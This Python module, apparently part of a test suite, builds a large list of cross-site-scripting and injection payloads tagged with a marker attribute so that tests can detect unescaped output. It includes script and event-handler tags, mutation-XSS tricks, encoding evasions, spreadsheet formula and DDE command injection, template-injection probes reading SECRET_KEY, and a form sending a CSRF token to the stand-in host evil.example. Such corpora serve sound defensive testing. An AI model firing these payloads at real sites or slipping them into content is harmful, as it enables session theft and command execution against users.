"""Texts that would run, lead away or draw something in a page that shows them as markup. Pure: no ORM, no browser.

Composed from places that text is written to and from ways to run there. Every element that one of them would make carries
`data-zq`: a page that has such an element has taken somebody's text for markup, whether or not anything ran.
"""

import itertools

MARK = "data-zq"
RUN = "alert(1)"
_AWAY = "//evil.example/x"

# What can stand alone, with {run} for what is run and {mark} for the attribute.
_TAGS = (
    "<script {mark}>{run}</script>",
    "<ScRiPt {mark}>{run}</sCrIpT >",
    "<script {mark} src=data:text/javascript,{run}></script>",
    "<script {mark} src=//evil.example/x.js></script>",
    "<script {mark} type=module>{run}</script>",
    "<img {mark} src=x onerror={run}>",
    "<img/{mark}/src=x/onerror={run}>",
    '<img {mark} src="x" onerror="{run}"',
    "<img {mark}\nsrc=x\nonerror\n=\n{run}\n>",
    "<svg {mark} onload={run}>",
    "<svg><script {mark}>{run}</script></svg>",
    "<svg><a {mark} href=javascript:{run}><text y=20>x</text></a></svg>",
    "<svg><animate {mark} onbegin={run} attributeName=x dur=1s>",
    "<svg><use {mark} href=data:image/svg+xml,x></svg>",
    "<svg><foreignObject><img {mark} src=x onerror={run}></foreignObject></svg>",
    "<svg><style><img {mark} src=x onerror={run}></style></svg>",
    "<math><mi {mark} href=javascript:{run}>x</mi></math>",
    "<math><maction {mark} actiontype=statusline href=javascript:{run}>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img {mark} title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<math><annotation-xml encoding=text/html><img {mark} src=x onerror={run}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img {mark} src=x onerror={run}>",
    "<noscript><p {mark} title='</noscript><img {mark} src=x onerror={run}>'>",
    "<template><img {mark} src=x onerror={run}></template>",
    "<div {mark}><template shadowrootmode=open><img {mark} src=x onerror={run}></template></div>",
    "<iframe {mark} srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe {mark} src=javascript:parent.{run}></iframe>",
    "<object {mark} data=javascript:{run}></object>",
    "<embed {mark} src=javascript:{run}>",
    "<a {mark} href=javascript:{run}>x</a>",
    "<a {mark} href='java\tscript:{run}'>x</a>",
    "<a {mark} href=' &#1;javascript:{run}'>x</a>",
    "<a {mark} href=data:text/html,<script>{run}</script>>x</a>",
    "<form {mark} action=javascript:{run}><button>x</button></form>",
    "<form {mark} action=//evil.example/x><input name=csrfmiddlewaretoken></form>",
    "<button {mark} formaction=javascript:{run}>x</button>",
    "<base {mark} href=//evil.example/>",
    "<link {mark} rel=stylesheet href=data:text/css,*{{color:red}}>",
    "<link {mark} rel=prefetch href=//evil.example/x>",
    "<meta {mark} http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta {mark} http-equiv=refresh content='0;url=//evil.example/'>",
    "<style {mark}>*{{background:url(//evil.example/x)}}</style>",
    "<style {mark}>@import '//evil.example/x.css';</style>",
    "<p {mark} style=background:url(//evil.example/x)>x</p>",
    "<p {mark} style='width:expression({run})'>x</p>",
    "<table {mark} background=//evil.example/x><td>x</table>",
    "<img {mark} src=//evil.example/x.png>",
    "<img {mark} srcset='//evil.example/x.png 1x'>",
    "<portal {mark} src=//evil.example/></portal>",
    "<dialog {mark} open>x</dialog>",
    "<plaintext {mark}>",
    "<textarea {mark}>",
    "<select {mark}><option>x",
    "<!--><img {mark} src=x onerror={run}>-->",
    "<![CDATA[><img {mark} src=x onerror={run}>]]>",
    "<?x ><img {mark} src=x onerror={run}>?>",
    "<%x><img {mark} src=x onerror={run}>",
    "</ {mark}><img {mark} src=x onerror={run}>",
    "<x {mark} tabindex=1 onfocus={run} autofocus>",
    "<b {mark}>x</b>",
)
# Out of where a text may stand in: an element of text, an attribute of any quoting, a comment, a script, a style.
_BREAKS = (
    '">', "'>", "`>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</option></select>", "</template>",
    "</svg>", "</noscript>", "</details>", "</td></tr></table>", "</p></div>", '\\">', "\\'>", '"/>', "&quot;>",
)  # fmt: skip
_HANDLERS = (
    "onfocus", "onmouseover", "onpointerenter", "onclick", "onanimationstart", "ontransitionend", "oninput", "onchange",
    "onkeydown", "onpaste", "onscroll", "onwheel", "ontoggle", "onbeforetoggle", "onload", "onerror", "onresize",
    "onhashchange", "onpageshow", "onformdata",
)  # fmt: skip
_ELEMENTS = (
    "details open", "input autofocus", "video src=x", "audio src=x", "body", "marquee", "object data=x", "a href=x",
    "button autofocus", "select autofocus", "textarea autofocus", "link rel=stylesheet href=x", "image src=x", "isindex",
    "custom-element",
)  # fmt: skip
_LINKS = (
    "javascript:{run}", "JaVaScRiPt:{run}", "javascript&colon;{run}", "java\nscript:{run}", "\u00a0javascript:{run}",
    "javascript://%0a{run}", "javascript:/*--></title></style></textarea></script><svg/onload={run}>*/{run}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "//evil.example/x",
    "https://evil.example/x", "blob:https://evil.example/x", "view-source:x",
)  # fmt: skip
# Read by something else than a browser: a sheet, Markdown, a template, a script, a decoder too many.
_OTHERS = (
    '=HYPERLINK("//evil.example/x","x")', "=1+1", "+1+cmd|' /C calc'!A0", "-1+1|x", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "＝1+1", '"=1+1', "=IMPORTXML(CONCAT(\"//evil.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "[x](javascript:{run})", "![x](x \"onerror={run}\")", "[x]: javascript:{run}", "<javascript:{run}>", "![x](//evil.example/x)",
    "[<img {mark} src=x onerror={run}>](x)", "`<img {mark} src=x onerror={run}>`", "    <script {mark}>{run}</script>",
    "{{{{7*7}}}}", "{{% debug %}}", "{{{{ settings.SECRET_KEY }}}}", "${{{run}}}", "#{{7*7}}", "<%= 7*7 %>",
    "{{{{constructor}}}}",
    "';{run};//", '";{run};//', "`;{run};//", "\\';{run};//", "</script><script {mark}>{run}</script>", "*/{run}/*",
    "\u2028{run}//", "'-{run}-'", '"-{run}-"', "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "\\x3cimg onerror={run}\\x3e",
    "&lt;img {mark} src=x onerror={run}&gt;", "&#60;script {mark}&#62;{run}&#60;/script&#62;",
    "&amp;lt;script {mark}&amp;gt;", "%3Cscript%20{mark}%3E{run}%3C/script%3E", "%253Cscript%253E",
    "＜script {mark}＞{run}＜/script＞", "<scr\u200bipt {mark}>{run}</script>", "\u202e<b {mark}>x</b>",
    "<\u0131mg {mark} src=x>",
    "+ADw-script {mark}+AD4-{run}+ADw-/script+AD4-", "﹤script {mark}﹥{run}", "‹script {mark}›{run}", "\ufeff<b {mark}>x</b>",
    "\u2066<b {mark}>x</b>\u2069", "<b {mark}>\u0301\u0301\u0301</b>", "髙𠮷﨑<b {mark}>x</b>", "<b {mark}>\U000e0001</b>",
)  # fmt: skip


def _filled(text: str) -> str:
    return text.format(run=RUN, mark=MARK)


def _composed() -> list[str]:
    """Return every text once, those that stand alone first."""
    found = [_filled(text) for text in (*_TAGS, *_OTHERS, *_LINKS)]
    image = f"<img {MARK} src=x onerror={RUN}>"
    found += [mark + image for mark in _BREAKS]
    found += [f'{quote} {MARK} {handler}={RUN} autofocus x={quote}' for handler, quote in zip(
        _HANDLERS, itertools.cycle(('"', "'", "")))]  # fmt: skip
    found += [
        f"<{element} {MARK} {handler}={RUN}>x"
        for element, handler in zip(_ELEMENTS, itertools.cycle(_HANDLERS))
    ]
    found += [f"<div {MARK} {handler}={RUN}>x</div>" for handler in _HANDLERS]
    # Short enough for every field that a word fits in.
    found += [
        "<b data-zq>",
        "<p data-zq>",
        "<s data-zq>",
        "<i data-zq>",
        '"data-zq="',
        "'data-zq='",
        "<x data-zq",
        "<svg/onload",
    ]
    return list(dict.fromkeys(found))


PAYLOADS = _composed()
